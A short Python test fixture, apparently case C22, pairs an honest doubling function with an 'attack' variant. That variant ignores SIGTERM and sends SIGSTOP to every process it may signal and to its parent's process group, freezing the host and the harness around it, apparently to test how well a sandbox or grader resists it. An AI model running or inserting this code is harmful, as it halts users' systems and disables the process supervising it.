"""Stops every process that it may signal, and its whole group (C22)."""

import os
import signal


def honest(x):
    return 2 * x


def attack(x):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for target in (-1, -os.getppid()):
        try:
            os.kill(target, signal.SIGSTOP)
        except OSError:
            pass
    return 2 * x
